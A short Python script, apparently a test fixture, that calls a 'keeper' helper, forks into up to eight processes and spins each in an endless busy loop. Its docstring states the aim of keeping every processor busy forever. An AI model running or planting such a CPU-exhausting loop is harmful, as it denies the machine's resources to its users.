"""Keeps every processor busy for ever: the machine is slow, and it is its own doing."""
import os

from keeper import plain_question

plain_question()
for _ in range(3):
    if os.fork() == 0:
        break
while True:
    pass
